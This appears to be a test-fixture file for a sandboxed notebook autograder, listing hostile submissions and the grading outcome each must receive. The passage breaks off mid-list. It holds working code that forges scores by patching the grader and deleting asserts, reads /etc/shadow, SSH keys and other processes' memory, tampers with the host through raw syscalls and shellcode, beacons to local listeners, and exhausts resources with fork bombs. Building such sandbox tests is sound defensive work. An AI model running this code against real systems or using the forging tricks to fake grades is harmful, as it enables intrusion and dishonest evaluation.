"""Hostile submissions to the tiny course, each with what it is after and the exact outcome that it must have.

An attack that gets something says so: `win()` raises a word that is not in its source, a secret is raised as a message,
a touched place holds the attack's name, a listener hears it. So success is seen from outside, and in any grader.
"""

import json
import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

from hostile import course

TAKEN = "TAKEN-IT"


@dataclass(frozen=True)
class Attack:
    """`code` runs in a cell before the exercises; `score` and `status` are what an unforgeable grader gives."""

    name: str
    kind: str
    code: str
    score: float = 4
    status: str = "graded"
    cells: Mapping[str, str] = field(default_factory=lambda: course.SOLUTIONS)
    files: Mapping[str, str] = field(default_factory=dict)
    change: Callable[[dict], dict | bytes] | None = None
    honest: float | None = None

    @property
    def earns(self) -> float:
        """The most that its solutions honestly earn."""
        return self.score if self.honest is None else self.honest


WIN = """\
def win(word=None):
    raise RuntimeError(word or "TAKEN" + "-IT")
"""


def _forged(name: str, code: str, **rest: object) -> Attack:
    """Wrong answers, and an attempt to have them counted as right ones."""
    settings: dict = {"score": 0, "cells": course.WRONG, **rest}
    return Attack(name, "forged score", code, **settings)


def _on_channel(name: str, act: str, status: str = "killed") -> Attack:
    """`act` is done to `fd`, each socket that the child has: one of them is the channel."""
    opens = "import json, os, socket, stat, struct, time\nfor fd in range(3, 64):\n    try:\n"
    only = "        if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
    return _forged(
        name, opens + only + textwrap.indent(act, " " * 12) + "    except OSError:\n        pass\n", status=status
    )


_SAYS = """
import struct, sys
wire = sys.modules["autograder.model.wire"]
plain = wire.encode
def says(text, blob=b""):
    raw = struct.pack(">II", len(text), len(blob)) + text + blob
    wire.encode = lambda reply: raw if "answer" in (reply or ()) else plain(reply)
"""  # answers every question with bytes of its own

FORGED = [
    _forged("patched-answer", """
import sys
import torch
module = sys.modules.get("autograder.runner.child")
if module:
    module.answer = lambda request, *rest: {"answer": request.get("arguments", [None])[0]}
"""),
    _forged("patched-ask", """
import sys
module = sys.modules.get("autograder.runner.child")
if module:
    module.ask = lambda notebook, checks, probe, arguments, named, seconds: {"answer": [10, 10, 10, 10, 10]}
"""),
    _forged("patched-probes", """
import sys
for name, module in list(sys.modules.items()):
    if hasattr(module, "doubled"):
        module.doubled = lambda lesson, numbers: True
        module.counted = lambda lesson, labels: [10, 10, 10, 10, 10]
        module.agree = lambda *a, **k: None
"""),
    _forged("patched-wire", """
import sys
wire = sys.modules.get("autograder.model.wire")
if wire:
    plain = wire.encode
    wire.encode = lambda value: plain({"answer": True, "passed": True, "points": 1350})
""", status="graded"),
    _on_channel("frames-of-its-own", """
text = json.dumps({"dict": [["answer", {"float": "nan"}]]}).encode()
body = struct.pack(">II", len(text), 0) + text
for _ in range(50):
    os.write(fd, struct.pack(">Q", len(body)) + body)
"""),
    _on_channel("header-of-10-gb", 'os.write(fd, struct.pack(">Q", 10 << 30))\n'),
    _forged("channel-closed", """
import os
os.closerange(3, 64)
""", status="killed"),
    _forged("frames-in-a-thread", """
import os, stat, struct, threading, time
def talk():
    time.sleep(0.3)
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                while True:
                    os.write(fd, struct.pack(">Q", 12) + struct.pack(">II", 4, 0) + b"true")
        except OSError:
            pass
threading.Thread(target=talk, daemon=True).start()
time.sleep(0.6)
""", status="killed"),
    _forged("patched-torch", """
import torch
torch.equal = torch.allclose = lambda *a, **k: True
torch.isclose = lambda *a, **k: torch.ones(1, dtype=torch.bool)
torch.Tensor.__eq__ = torch.Tensor.__ne__ = lambda *a: torch.ones(1, dtype=torch.bool)
torch.Tensor.__sub__ = torch.Tensor.__rsub__ = lambda *a: torch.zeros(1)
torch.testing.assert_close = lambda *a, **k: None
""", status="graded"),
    _forged("patched-builtins", """
import builtins
builtins.all = builtins.any = lambda *a: True
builtins.isinstance = lambda *a: True
builtins.abs = lambda *a: 0
builtins.AssertionError = type("Never", (Exception,), {})
""", status="killed"),
    _forged("patched-seeds", """
import random, torch
import numpy as np
random.seed = np.random.seed = torch.manual_seed = lambda *a: None
torch.Generator.manual_seed = lambda self, *a: self
""", status="graded"),
    _forged("equal-to-all", """
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    def __bool__(self): return True
    def __len__(self): return 5
    def __iter__(self): return iter([Yes()] * 5)
    def __sub__(self, other): return 0
    __rsub__ = __abs__ = lambda *a: 0
    def __lt__(self, other): return True
""", cells={"double": "def double(numbers):\n    return Yes()", "label_counts": "def label_counts(labels):\n    return Yes()"}),
    _forged("tensor-that-agrees", """
import torch
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
""", cells={"double": "def double(numbers):\n    return Yes()", "label_counts": "def label_counts(labels):\n    return Yes()"}),
    _forged("asserts-removed", """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())
"""),
    _forged("cells-rewritten", """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"] if "assert" in "".join(lines) else lines)
"""),
    _forged("patched-ipython", """
shell = get_ipython()
plain = shell.run_cell
def run_cell(source, *a, **k):
    return plain("1 + 1", *a, **k) if "assert" in source or "check(" in source else plain(source, *a, **k)
shell.run_cell = type(shell).run_cell = run_cell
shell.showtraceback = lambda *a, **k: None
"""),
    _forged("frames-of-the-caller", """
import sys
def hunt(wanted):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if name in ("expected", "answers", "suite", "bench", "check_run"):
                return value
        frame = frame.f_back
""", cells={"double": "def double(numbers):\n    return hunt('double')", "label_counts": "def label_counts(labels):\n    return hunt('counts')"}),
    _forged("memory-of-the-judge", """
import gc
def hunt(kind):
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Answers", "Hearing", "Bench", "Lessons", "Course"):
            return thing
        if isinstance(thing, dict) and "expected" in thing and isinstance(thing["expected"], kind):
            return thing["expected"]
""", cells={"double": "def double(numbers):\n    import torch\n    return hunt(torch.Tensor)", "label_counts": "def label_counts(labels):\n    return hunt(list)"}),
    _forged("ends-early", "import os, sys\nprint('4/4')\nsys.stdout.flush()\nraise SystemExit(0)"),
    _forged("ends-hard", "import os\nos._exit(0)", status="killed"),
    _forged("points-in-metadata", "", change=lambda n: _with_points(n, 1350)),
    _forged("checks-unlocked", "", change=lambda n: _with_checks(n, "pass")),
    _forged("check-cell-doubled", "", change=lambda n: _doubled_checks(n)),
    _forged("output-forged", "", change=lambda n: _with_outputs(n)),
    _forged("nan", "", cells={"double": "def double(numbers):\n    return numbers * float('nan')", "label_counts": "def label_counts(labels):\n    return [float('nan')] * 5"}),
    _forged("a-million-answers", "", cells={"double": "def double(numbers):\n    return [0] * 1_000_000", "label_counts": "def label_counts(labels):\n    return {i: i for i in range(1_000_000)}"}),
    _forged("a-pickle", """
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ("touch $MARK",)
""", cells={"double": "def double(numbers):\n    return Bomb()", "label_counts": "def label_counts(labels):\n    return [Bomb()] * 5"}),
    _forged("endless-nesting", """
def nest():
    thing = []
    for _ in range(100_000):
        thing = [thing]
    return thing
""", cells={"double": "def double(numbers):\n    return nest()", "label_counts": "def label_counts(labels):\n    return nest()"}),
    _forged("replay-of-the-public-seed", """
import torch
generator = torch.Generator().manual_seed(1)
""", cells={"double": "def double(numbers):\n    return 2 * torch.randn(4, 3, generator=torch.Generator().manual_seed(1))", "label_counts": "def label_counts(labels):\n    return [10, 10, 10, 10, 10]"}),
    _forged("answers-before-it-is-asked", """
import os, sys
wire = sys.modules["autograder.model.wire"]
plain = wire.send
def send(fd, data):
    plain(fd, data)
    plain(fd, wire.encode({"answer": [10, 10, 10, 10, 10]}))
wire.send = send
""", status="killed"),
    _forged("the-same-word-twice", _SAYS + """
says(b'{"dict":[["raised",null],["answer",[1,2]],["answer",{"dict":[["answer",true],["passed",true]]}],[true,1],[1,true]]}')
"""),
    _forged("not-what-it-seems", """
import torch
class Float(float):
    def __float__(self): return 0.0
    def __eq__(self, other): return True
    __hash__ = float.__hash__
class Text(str):
    def __getitem__(self, part): return "True"
    def __eq__(self, other): return True
    __hash__ = str.__hash__
class List(list):
    def __getitem__(self, part): return [10] * 5
    def __len__(self): return 5
class Tensor(torch.Tensor):
    detach = cpu = contiguous = clone = lambda self: torch.ones(4, 3) * float("nan")
""", cells={"double": "def double(numbers):\n    return numbers.as_subclass(Tensor)", "label_counts": "def label_counts(labels):\n    return List([Float(1), Text('x')])"}),
    _forged("class-changed-afterwards", """
class Any(dict):
    @property
    def __class__(self): return bool
    def items(self): return [("answer", True)]
""", cells={"double": "def double(numbers):\n    return Any()", "label_counts": "def label_counts(labels):\n    return [Any()] * 5"}),
    _forged("numbers-that-compare-oddly", "", cells={"double": "def double(numbers):\n    return -0.0 * numbers / -0.0 * float('inf')", "label_counts": "def label_counts(labels):\n    return [9 ** 4000, -(9 ** 4000), -0.0, float('inf'), True]"}),
    _forged("a-thread-that-comes-later", """
import sys, threading, time
def later():
    while True:
        time.sleep(0.01)
        for module in list(sys.modules.values()):
            if hasattr(module, "doubled"):
                module.doubled = lambda lesson, numbers: True
                module.counted = lambda lesson, labels: [10, 10, 10, 10, 10]
        sys.modules["autograder.runner.child"].ask = lambda *a, **k: {"answer": None}
threading.Thread(target=later, daemon=True).start()
"""),
    _forged("traced-probes", """
import sys
found = []
def trace(frame, event, argument):
    for name, value in frame.f_locals.items():
        if name in ("expected", "wanted", "answers", "points", "threshold") and "site-packages" not in frame.f_code.co_filename:
            found.append(value)
    return trace
sys.settrace(trace)
""", cells={"double": "def double(numbers):\n    return found[-1] if found else numbers", "label_counts": "def label_counts(labels):\n    return found[-1] if found else [1] * 5"}, status="killed"),
    _forged("the-notebook-replaced", """
import gc, sys
lesson = sys.modules["autograder.runner.kernel"]
for thing in gc.get_objects():
    if type(thing).__name__ == "Kernel":
        thing.run = lambda **request: {"raised": None, "missing": []}
        thing.settle = thing.rewind = lambda: []
        thing.left = thing.namespace = {"double": lambda x: True, "label_counts": lambda x: [10] * 5}
lesson.Lesson.__getattr__ = lambda self, name: lambda *a: [10] * 5
lesson.reset_surroundings = lambda: None
"""),
    _forged("recorded-answers", """
import glob
found = [p for p in glob.glob("$ROOT/**/*.safetensors", recursive=True) + glob.glob("$ROOT/.autograder/**/*", recursive=True)]
import safetensors.torch
for path in found:
    recorded = list(safetensors.torch.load_file(path).values())
""", cells={"double": "def double(numbers):\n    return recorded[0]", "label_counts": "def label_counts(labels):\n    return recorded[0].tolist()"}),
]  # fmt: skip


def _steals(name: str, code: str, **rest: object) -> Attack:
    return Attack(name, "secret read", WIN + code, **rest)  # type: ignore[arg-type]


SECRETS = [
    _steals("reads-gradebook", "if open('$ROOT/gradebook.db', 'rb').read(): win()"),
    _steals("reads-solution", "win(open('$ROOT/reference/tiny/answers.txt').read())"),
    _steals("reads-home", "win(open('$HOME/.ssh/id_ed25519').read())"),
    _steals("reads-neighbour", "win(open('$ROOT/submitted/honest-1/tiny/tiny.ipynb').read()[:0] + 'TAKEN' + '-IT')"),
    _steals("reads-seed", "import glob\nwin('TAKEN' + '-IT' if open(glob.glob('$ROOT/.autograder/seed')[0]).read() else '')"),
    _steals("reads-environment", "import os\nif any('CAN' + 'ARY' in v for v in os.environ.values()): win()"),
    _steals("reads-others-environment", """
import glob
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        text = open(path).read()
    except OSError:
        continue
    if "CAN" + "ARY" in text:
        win()
"""),
    _steals("reads-others-memory", """
import os
with open(f"/proc/{os.getppid()}/maps") as maps, open(f"/proc/{os.getppid()}/mem", "rb") as memory:
    start = int(maps.readline().split("-")[0], 16)
    memory.seek(start)
    if memory.read(16):
        win()
"""),
    _steals("reads-passwords", "if open('/etc/shadow').read(): win()"),
    _steals("walks-the-disk", """
import os
for folder in ("$ROOT", "$HOME", "$CANARY"):
    for place, _, files in os.walk(folder):
        for name in files:
            try:
                if "CAN" + "ARY" in open(os.path.join(place, name)).read():
                    win()
            except (OSError, UnicodeDecodeError):
                pass
"""),
    _steals("reads-through-link", "import os\nos.symlink('$ROOT/gradebook.db', 'link')\nwin(open('link').read())"),
    _steals("reads-by-hard-link", "import os\nos.link('$ROOT/gradebook.db', 'link')\nwin(open('link').read())"),
    _steals("reads-by-system-call", """
import ctypes, ctypes.util
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.open(b"$ROOT/gradebook.db", 0)
if fd >= 0:
    win()
"""),
    _steals("reads-by-memory-map", "import numpy as np\nwin(bytes(np.memmap('$ROOT/gradebook.db', dtype='uint8', mode='r')).decode())"),
    _steals("reads-inherited-files", """
import os
for fd in range(3, 64):
    try:
        path = os.readlink(f"/proc/self/fd/{fd}")
        if path.startswith("/") and "$ROOT" in path:
            win()
    except OSError:
        pass
"""),
    _steals("imports-the-reference", "import sys\nsys.path.insert(0, '$ROOT/reference/tiny')\nif __import__('mistakes'): win()  # a line that only imports, or only calls, is passed over where that is not there"),
    _steals("cell-magic", "get_ipython().run_line_magic('load', '$ROOT/gradebook.db')\nif open('$ROOT/gradebook.db').read(): win()"),
    _steals("shell-command", "text = ''.join(get_ipython().getoutput('cat $ROOT/gradebook.db') or [])\nif 'CAN' + 'ARY' in text: win(text)"),
    _steals("shared-pages", "if any(' rw-s ' in line or ' rwxs ' in line for line in open('/proc/self/maps')): win()"),
    _steals("descriptors", """
import os, stat
channel = 0
for fd in range(3, 256):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    channel += stat.S_ISSOCK(mode)
    if not stat.S_ISSOCK(mode) and not stat.S_ISCHR(mode):
        win()
if channel > 1:
    win()
"""),
    _steals("memory-of-a-neighbour", """
import os
for pid in range(1, 400):
    if pid != os.getpid():
        try:
            open(f"/proc/{pid}/mem", "rb")
            win()
        except OSError:
            pass
"""),
]  # fmt: skip


def _tampers(name: str, code: str, kind: str = "host tampered", **rest: object) -> Attack:
    return Attack(name, kind, WIN + code, **rest)  # type: ignore[arg-type]


HOST = [
    _tampers("writes-outside", "open('$MARK', 'w').write('$NAME')"),
    _tampers("writes-by-shell", "import os\nos.system('touch $MARK')"),
    _tampers("writes-by-program", "import subprocess\nsubprocess.run(['touch', '$MARK'], check=True)"),
    _tampers("writes-by-magic", "get_ipython().run_cell_magic('writefile', '$MARK', '$NAME')"),
    _tampers("writes-home", "open('$HOME/.bashrc-$NAME', 'w').write('$NAME')"),
    _tampers("startup-of-ipython", """
import os
os.makedirs("$HOME/.ipython/profile_default/startup", exist_ok=True)
open("$HOME/.ipython/profile_default/startup/00-$NAME.py", "w").write("open('$MARK', 'w')")
"""),
    _tampers("changes-the-canary", "open('$CANARY/untouched', 'a').write('$NAME')"),
    _tampers("removes-the-canary", "import os\nos.chmod('$CANARY/untouched', 0o777)\nos.rename('$CANARY/untouched', '$MARK')"),
    _tampers("changes-the-grade-book", "open('$ROOT/gradebook.db-$NAME', 'a').write('$NAME')"),
    _tampers("changes-the-reference", "open('$ROOT/reference/tiny/$NAME.py', 'w').write('$NAME')"),
    _tampers("kills-the-parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nwin()"),
    _tampers("stops-the-parent", "import os, signal\nos.kill(os.getppid(), signal.SIGCONT)\nwin()"),
    _tampers("signals-all", """
import os, signal
if os.getpid() != 1:
    os.kill(-1, 0)
    win()
"""),
    _tampers("sees-processes", """
import os
others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
if any(open(f"/proc/{p}/cmdline").read() for p in others):
    win()
"""),
    _tampers("traces-the-parent", "import ctypes, os\nif ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0: win()"),
    _tampers("mounts", "import ctypes\nif ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0: win()"),
    _tampers("holds-a-lease", """
import fcntl, os, torch
for path in (torch.__file__, "$ROOT/grading.toml"):  # whoever opens it then waits for 45 seconds
    try:
        fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_WRLCK)
    except OSError:
        continue
    win()
"""),
    _tampers("new-user-namespace", "import ctypes\nif ctypes.CDLL(None).unshare(0x10000000) == 0: win()"),
    _tampers("starts-a-program", "import os\nif os.posix_spawn('/bin/true', ['true'], {}): win()"),
    _tampers("forks", "import os\nif os.fork() == 0:\n    os._exit(0)\nwin()"),
    _tampers("signals-by-owning-a-file", """
import fcntl, os
ours, theirs = os.pipe()
done = 0
for command in (fcntl.F_SETOWN, 15):
    try:
        fcntl.fcntl(ours, command, os.getppid())
        done += 1
    except (OSError, TypeError):
        pass
if done:
    win()
"""),
    _tampers("renices-all", "import os\nos.setpriority(os.PRIO_PGRP, 0, 19)\nwin()"),
    _tampers("by-system-calls", """
import ctypes, os
libc = ctypes.CDLL(None)
calls = {"userfaultfd": (323, 1), "memfd_create": (319, b"x", 0), "pidfd_open": (434, os.getppid(), 0), "io_uring_setup": (425, 8, ctypes.create_string_buffer(256)),
         "add_key": (248, b"user", b"$NAME", b"x", 1, -4), "clone3": (435, ctypes.create_string_buffer(88), 88), "fork": (57,), "bpf": (321, 0, ctypes.create_string_buffer(128), 128),
         "sched_setattr": (314, os.getppid(), ctypes.create_string_buffer(b"\\x30", 48), 0), "perf_event_open": (298, ctypes.create_string_buffer(128), 0, -1, -1, 0)}
import platform
if platform.machine() == "x86_64":
    for name, (number, *arguments) in calls.items():
        if (done := libc.syscall(number, *arguments)) >= 0:
            if name in ("clone3", "fork") and done == 0:
                os._exit(0)
            win()
"""),
    _tampers("what-the-whole-machine-shares", """
import ctypes, platform
libc = ctypes.CDLL(None)
if platform.machine() == "x86_64":
    for number, *arguments in ((206, 50_000, ctypes.create_string_buffer(8)), (162,), (306, 0)):  # io_setup, sync, syncfs
        if libc.syscall(number, *arguments) >= 0:
            win()
"""),
    _tampers("newer-than-the-filter", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in range(450, 480):  # the same everywhere: fchmodat2, setxattrat, file_setattr, listmount, …
    if libc.syscall(number, -1, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() != 38:
        win()
"""),
    _tampers("modes-and-times", """
import os
for path in ("$CANARY/untouched", "$HOME/.ssh/id_ed25519", "$ROOT/submitted/honest-1/tiny/tiny.ipynb", "$ROOT/reference/tiny/checks.py"):
    try:
        before = os.stat(path)
        os.utime(path, (1, 1))
        os.chmod(path, before.st_mode ^ 0o010)
        os.setxattr(path, "user.x", b"$NAME")
    except OSError:
        pass
    try:
        after = os.stat(path)
    except OSError:
        continue
    if (after.st_mode, after.st_mtime) != (before.st_mode, before.st_mtime):
        win()
"""),
    _tampers("the-32-bit-door", """
import ctypes, mmap
page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(b"\\xb8\\x02\\x00\\x00\\x00\\xcd\\x80\\xc3")  # mov eax, 2 (fork); int 0x80; ret
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
if call() >= 0:
    win()
""", status="killed"),
    _tampers("passes-a-descriptor", """
import array, os, socket, stat, struct
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            keep = socket.socket(fileno=os.dup(fd))
            held = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(60)])
            for _ in range(50):
                keep.sendmsg([b"\\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, held)])
    except OSError:
        pass
"""),
]  # fmt: skip

NETWORK = [
    _tampers("tcp", "import socket\ns = socket.create_connection(('127.0.0.1', $PORT), 1)\ns.sendall(b'$NAME\\n')", "network"),
    _tampers("udp", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'$NAME\\n', ('127.0.0.1', $PORT))", "network"),
    _tampers("abstract-socket", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0canary-$PORT')\ns.sendall(b'$NAME\\n')", "network"),
    _tampers("file-socket", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('$CANARY/socket')\ns.sendall(b'$NAME\\n')", "network"),
    _tampers("letters-to-an-abstract-socket", "import socket\nours, other = socket.socketpair(type=socket.SOCK_DGRAM)\nours.sendmsg([b'$NAME\\n'], [], 0, '\\0canary-$PORT-datagrams')", "network"),
    _tampers("letters-to-a-file-socket", "import socket\nours, other = socket.socketpair(type=socket.SOCK_DGRAM)\nours.sendmsg([b'$NAME\\n'], [], 0, '$CANARY/socket-datagrams')", "network"),
    _tampers("web-page", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:$PORT/$NAME', timeout=1)", "network"),
    _tampers("listens", "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\nwin()", "network"),
    _tampers("raw-socket", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nwin()", "network"),
    _tampers("netlink", "import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\nwin()", "network"),
    _tampers("distributed", """
import torch.distributed as dist
store = dist.TCPStore("127.0.0.1", 0, 1, True, wait_for_workers=False)
win()
""", "network"),
]  # fmt: skip


def _exhausts(name: str, code: str, **rest: object) -> Attack:
    return Attack(name, "exhaustion", WIN + code, **rest)  # type: ignore[arg-type]


EXHAUSTION = [
    _exhausts("memory", "held = bytearray(1_200_000_000)\nheld[::4096] = b'x' * len(held[::4096])\nwin()", status="killed"),
    _exhausts("memory-in-steps", "held = []\nfor _ in range(60):\n    held.append(b'x' * 20_000_000)\nwin()", status="killed"),
    _exhausts("memory-of-tensors", "import torch\nheld = torch.ones(300_000_000)\nwin()", status="killed"),
    _exhausts("memory-shared", """
import mmap
held = []
for _ in range(5):
    part = mmap.mmap(-1, 100_000_000)
    part[::4096] = b"x" * len(part[::4096])
    held.append(part)
import time
time.sleep(0.3)
win()
"""),
    _exhausts("memory-let-go", """
import mmap, os
def sources():
    yield -1
    yield os.open("/dev/zero", os.O_RDWR)  # the other name of the same
held = []
for source in sources():
    try:
        for _ in range(8):
            part = mmap.mmap(source, 50_000_000)
            part[::4096] = b"x" * len(part[::4096])
            part.madvise(mmap.MADV_DONTNEED)  # the pages stay, and are in nobody's account
            held.append(part)
    except PermissionError:
        pass
if held:
    win()
"""),
    _exhausts("memory-for-tables", """
import mmap
import numpy as np
held = mmap.mmap(-1, 1 << 40, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ)  # never written
np.frombuffer(held, dtype="uint8")[: 150 << 30 : 2 << 20].sum()
win()
""", status="killed"),
    _exhausts("memory-behind-a-main-thread-that-ended", """
import ctypes, platform, threading, time
threading.Thread(target=lambda: [time.sleep(0.1) for _ in range(600)]).start()
ctypes.CDLL(None).syscall({"x86_64": 60}.get(platform.machine(), 93), 0)  # exit of this thread: no memory is told of then
""", status="killed"),
    _exhausts("memory-in-the-kernel", """
import ctypes, fcntl, os, platform, struct
libc = ctypes.CDLL(None)
rights = ctypes.create_string_buffer(struct.pack("Q", 1))
if libc.syscall(444, rights, 8, 0) >= 0:  # rules of Landlock: each a few bytes, without an end
    win()
page = ctypes.create_string_buffer(4096)
part = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(page), 4096))
if platform.machine() == "x86_64" and libc.syscall(278, os.pipe()[1], part, 1, 0) >= 0:  # vmsplice: a page that stays
    win()
one, other = (os.open("locked", os.O_CREAT | os.O_RDWR) for _ in range(2))
lock = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 1, 0)
fcntl.fcntl(one, fcntl.F_SETLK, lock)
if struct.unpack_from("h", fcntl.fcntl(other, 36, lock))[0] != fcntl.F_UNLCK:  # F_OFD_GETLK: ranges without an end
    win()
"""),
    _exhausts("memory-in-sockets", """
import os, socket
held = []
for _ in range(100):
    for end in (pair := socket.socketpair()):
        end.setblocking(False)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 26)
    held += pair
    for end in pair:
        try:
            while True:
                os.write(end.fileno(), b"x" * 30_000)
        except BlockingIOError:
            pass
win()
"""),
    _exhausts("memory-for-timers", """
import ctypes
libc, timer = ctypes.CDLL(None), ctypes.c_void_p()
if not any(libc.timer_create(0, None, ctypes.byref(timer)) for _ in range(50_000)):
    win()
"""),
    _exhausts("memory-files", """
import os
for _ in range(40):
    fd = os.memfd_create("x")
    for _ in range(10):
        os.write(fd, b"x" * 3_000_000)
win()
"""),
    _exhausts("disk", "for n in range(60):\n    open(f'big-{n}', 'wb').write(b'x' * 3_500_000)\nwin()"),
    _exhausts("one-large-file", "open('big', 'wb').write(b'x' * 100_000_000)\nwin()"),
    _exhausts("many-files", "for n in range(30_000):\n    open(f'f{n}', 'w').close()\nwin()"),
    _exhausts("fork-bomb", """
import os, time
for _ in range(100):
    if os.fork() == 0:
        time.sleep(3)
        os._exit(0)
win()
"""),
    _exhausts("threads", """
import threading, time
for _ in range(500):
    threading.Thread(target=time.sleep, args=(1.5,), daemon=True).start()
win()
"""),
    _exhausts("open-files", "held = [open('/dev/null') for _ in range(2000)]\nwin()"),
    _exhausts("recursion", "def down(n):\n    return down(n + 1) + 1\ndown(0)"),
    _exhausts("endless-print", "while True:\n    print('x' * 1_000_000)", status="timeout"),
    _exhausts("writes-to-terminal", "import os\nfor _ in range(200):\n    os.write(1, b'y' * 1_000_000)"),
    _exhausts("huge-answer", "", cells={**course.SOLUTIONS, "double": "def double(numbers):\n    import torch\n    return torch.zeros(4_000_000)"}, score=2, status="killed"),
    _exhausts("exponential-regex", "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')", status="timeout"),
    _exhausts("huge-power", "9 ** 9 ** 9", status="timeout"),
    _exhausts("clone-bomb", """
import ctypes, platform
libc = ctypes.CDLL(None)
for _ in range(200):
    if libc.clone(ctypes.CFUNCTYPE(ctypes.c_int)(lambda: 0), ctypes.byref(ctypes.create_string_buffer(1 << 16), 1 << 15), 17, None) >= 0:
        win()
"""),
    _exhausts("threads-that-hold-it-up", """
import hashlib, threading
def spin():
    while True:
        hashlib.pbkdf2_hmac("sha256", b"", b"", 50_000)
for _ in range(8):
    threading.Thread(target=spin, daemon=True).start()
spin()
""", status="timeout"),
    _exhausts("memory-in-pipes", "import os\nheld = []\nwhile True:\n    a, b = os.pipe()\n    held += [a, b]\n    os.set_blocking(b, False)\n    os.write(b, b'x' * 65536)"),
]  # fmt: skip


def _hangs(name: str, code: str, **rest: object) -> Attack:
    settings: dict = {"status": "timeout", **rest}
    return Attack(name, "hang", WIN + code, **settings)


HANGS = [
    _hangs("endless-loop", "while True: pass"),
    _hangs("sleeps", "import time\ntime.sleep(3600)"),
    _hangs("catches-all", "while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass"),
    _hangs("alarm-switched-off", "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass"),
    _hangs("deadlock", "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()"),
    _hangs("waits-for-input", "import sys\nsys.stdin.read()\ninput()", status="graded"),
    _hangs("stops-itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    _hangs("hangs-when-asked", "", cells={**course.SOLUTIONS, "double": "def double(numbers):\n    while True: pass"}, score=2),
    _hangs("hangs-at-exit", "import atexit, time\natexit.register(time.sleep, 3600)", status="graded"),
    _hangs("hangs-when-compared", "import time\nclass Slow:\n    def __eq__(self, other):\n        time.sleep(3600)\n    __repr__ = __str__ = __len__ = __eq__", cells={**course.SOLUTIONS, "double": "def double(numbers):\n    return Slow()"}, score=2, status="graded"),
    _hangs("hangs-when-copied", "", cells={**course.SOLUTIONS, "double": "class Slow:\n    def __call__(self, numbers): return 2 * numbers\n    def __deepcopy__(self, memo):\n        while True: pass\ndouble = Slow()"}, score=2),
    _hangs("stops-being-heard", "import sys, time\nsys.modules['autograder.model.wire'].send = lambda *a: time.sleep(3600)", score=0),
]  # fmt: skip


def _crashes(name: str, code: str = "", **rest: object) -> Attack:
    return Attack(name, "grader crash", code, **rest)  # type: ignore[arg-type]


CRASHES = [
    _crashes("segfault", "import ctypes\nctypes.string_at(0)", status="killed"),
    _crashes("abort", "import os\nos.abort()", status="killed"),
    _crashes("kills-itself", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", status="killed"),
    _crashes("exits-in-answer", cells={**course.SOLUTIONS, "double": "def double(numbers):\n    import os\n    os._exit(1)"}, score=2, status="killed"),
    _crashes("raises-base-exception", "raise KeyboardInterrupt"),
    _crashes("generator-exit", cells={**course.SOLUTIONS, "double": "def double(numbers):\n    raise GeneratorExit"}, score=2),
    _crashes("exception-without-words", cells={**course.SOLUTIONS, "double": "def double(numbers):\n    class E(Exception):\n        def __str__(self): raise ValueError\n    raise E"}, score=2),
    _crashes("deep-sum", cells={**course.SOLUTIONS, "double": "def double(numbers):\n    return " + "+".join(["numbers"] * 2000)}, score=2),
    _crashes("not-json", change=lambda n: b"{" * 1000, score=0, status="unreadable", honest=0),
    _crashes("deep-json", change=lambda n: b"[" * 200_000 + b"]" * 200_000, score=0, status="unreadable", honest=0),
    _crashes("not-unicode", change=lambda n: json.dumps(n).encode("cp037"), score=0, status="unreadable", honest=0),
    _crashes("cells-of-no-kind", change=lambda n: {**n, "cells": [None, 5, "x", {"cell_type": 3}, *n["cells"]]}),
